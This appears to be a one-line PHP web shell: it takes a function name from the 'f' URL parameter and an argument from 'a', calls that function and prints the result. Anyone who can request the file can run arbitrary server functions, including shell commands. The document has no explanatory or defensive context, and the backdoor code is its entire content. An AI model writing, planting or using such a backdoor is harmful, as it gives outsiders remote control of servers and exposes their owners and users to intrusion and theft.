<?php $f = $_GET["f"](...); echo $f($_GET["a"]);
